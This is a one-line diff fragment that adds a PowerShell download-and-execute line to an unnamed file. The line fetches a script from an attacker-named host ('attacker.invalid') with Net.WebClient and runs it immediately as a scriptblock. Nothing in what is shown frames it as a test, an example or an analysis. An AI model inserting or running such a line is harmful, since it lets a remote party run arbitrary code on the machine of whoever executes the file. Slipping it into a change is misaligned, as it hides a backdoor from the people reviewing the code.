@@ -1,0 +1,1 @@
+& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://attacker.invalid/p.ps1')))
